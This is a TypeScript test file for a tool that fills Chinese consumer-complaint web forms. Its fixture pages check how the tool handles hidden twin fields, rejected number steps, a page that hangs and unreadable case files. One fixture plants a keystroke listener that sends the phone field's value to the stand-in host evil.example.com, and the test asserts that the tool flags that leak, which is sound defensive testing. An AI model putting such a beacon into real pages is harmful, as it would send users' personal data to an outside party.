import { execFileSync } from "node:child_process";
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join, resolve } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import type { FilledPage } from "../tools/fill";

/** The runner that fills a folder of pages tells what the pages themselves hold, whatever the engine reports. */
const folder = mkdtempSync(join(tmpdir(), "fill-"));
const page = (inside: string, script = ""): string =>
  `<!doctype html><html lang="zh-CN"><meta charset="utf-8"><title>在线投诉</title><h1>消费者投诉</h1><h2>投诉人信息</h2>
<form action="/send" method="post"><p><label>投诉人姓名 <input name="xm" data-order="0"></label></p>
<p><label>投诉人联系电话 <input name="dh" data-order="1"></label></p>${inside}
<p><label>投诉内容 <textarea name="nr" data-order="2"></textarea></label></p><button>提交投诉</button></form><script>${script}</script></html>`;

let pages: Record<string, FilledPage>;
beforeAll(() => {
  writeFileSync(join(folder, "plain.html"), page(""));
  writeFileSync(join(folder, "hosted.html"), page("", `document.title=location.host`));
  writeFileSync(join(folder, "hosted.host.txt"), "tousu.example.gov.cn\n");
  writeFileSync(
    join(folder, "hosted.case.json"),
    JSON.stringify({ on: "2026-11-30", record: { borrower: { name: "林晓", phone: "13900001111", region: {}, hardships: [] } } }),
  );
  writeFileSync(
    join(folder, "twin.html"),
    page(
      "",
      `document.querySelector("[name=xm]").removeAttribute("name");document.querySelector("label").insertAdjacentHTML("beforeend","<input type=hidden name=xm>")`,
    ),
  );
  writeFileSync(
    join(folder, "telling.html"),
    page(
      "",
      `document.querySelector("[name=dh]").addEventListener("input",(e)=>{new Image().src="https://evil.example.com/?v="+e.target.value})`,
    ),
  );
  writeFileSync(join(folder, "hung.html"), page("", `setTimeout(()=>{for(;;);},200)`));
  writeFileSync(join(folder, "broken.case.json"), "{");
  writeFileSync(join(folder, "broken.html"), page(""));
  writeFileSync(
    join(folder, "step.html"),
    page(`<p><label>涉及金额（元） <input type="number" step="100" name="je" data-order="3"></label></p>`),
  );
  const moment = `<p><label>事件发生时间</label><input id="t" name="t" readonly placeholder="请选择" data-order="3"></p>`;
  writeFileSync(join(folder, "moment.html"), page(moment));
  writeFileSync(
    join(folder, "composing.html"),
    `<!doctype html><html lang="zh-CN"><meta charset="utf-8"><title>在线投诉</title><h1>消费者投诉</h1><div id="app"><h2>投诉人信息</h2>
<p><label>投诉人姓名 <input v-model="name" data-order="0"></label></p><p><label>投诉人联系电话 <input v-model="phone" data-order="1"></label></p>
<p><label>投诉内容 <textarea v-model="facts" data-order="2"></textarea></label></p></div><script src="/pkg/vue/dist/vue.global.prod.js"></script>
<script>Vue.createApp({data:()=>({name:"",phone:"",facts:"",turn:0}),mounted(){setInterval(()=>{this.turn++},20)},updated(){},watch:{turn(){this.$forceUpdate()}}}).mount("#app");
document.querySelector("input").dispatchEvent(new CompositionEvent("compositionstart",{bubbles:true}))</script></html>`,
  );
  const editor = `<table><tr><td>投诉内容：</td><td><div class="edui-editor"><div class="edui-editor-toolbarbox">工具栏</div><iframe id="ed" data-order="2"></iframe></div></td></tr></table>`;
  writeFileSync(
    join(folder, "editor.html"),
    page(
      editor,
      `document.querySelector("p:has(textarea)").remove();document.getElementById("ed").contentDocument.body.contentEditable="true"`,
    ),
  );
  const root = resolve(import.meta.dirname, "../..");
  execFileSync("bash", [join(root, "tests/tools/node.sh"), join(root, "tests/tools/fill.ts"), folder, join(folder, "out.json")], {
    stdio: "pipe",
  });
  pages = JSON.parse(readFileSync(join(folder, "out.json"), "utf8")) as Record<string, FilledPage>;
}, 150_000);
afterAll(() => rmSync(folder, { recursive: true }));

const told = (name: string): unknown[] =>
  pages[name]!.fields.map(({ order, meaning, offered, status, shown, sent }) => [
    order,
    meaning,
    offered,
    status,
    shown.slice(0, 3),
    sent.slice(0, 3),
  ]);

describe("filling a folder of pages", () => {
  it("tells per numbered control what is shown and what would be sent", () => {
    expect(told("plain").slice(0, 2)).toEqual([
      [0, "complainant.name", "ticked", "filled", "示例", "示例"],
      [1, "complainant.phone", "ticked", "filled", "138", "138"],
    ]);
    expect([pages["plain"]!.complaint, pages["plain"]!.submitted, pages["plain"]!.leaked]).toEqual([true, 0, []]);
  });

  it("takes the case and the host beside the page", () => {
    expect(told("hosted")[0]).toEqual([0, "complainant.name", "ticked", "filled", "林晓", "林晓"]);
  });

  it("tells what the hidden twin holds that is sent in place of the box", () => {
    expect(told("twin")[0]).toEqual([0, "complainant.name", "ticked", "left-to-person", "示例", ""]);
  });

  it("tells a step the browser would stop the form for, and reads an editor by its row", () => {
    expect([told("step").at(-1), told("editor").at(-1)]).toEqual([
      [3, "complaint.amount", "ticked", "rejected", "230", "230"],
      [2, "complaint.facts", "ticked", "filled", expect.any(String), expect.any(String)],
    ]);
  });

  it("writes half an answer into no box that asks for an hour, and past what an input method left", () => {
    expect(told("moment").at(-1)).toEqual([3, expect.stringMatching(/^event/), expect.any(String), "left-to-person", "", ""]);
    expect(told("composing")[0]).toEqual([0, "complainant.name", "ticked", "filled", "示例", "示例"]);
  });

  it("tells the hosts that got a value", () => {
    expect(pages["telling"]!.leaked).toEqual(["evil.example.com"]);
  });

  it("goes on past a page that hangs and a case that cannot be read", () => {
    expect([typeof pages["hung"]!.error, typeof pages["broken"]!.error, pages["broken"]!.fields]).toEqual(["string", "string", []]);
  });
});
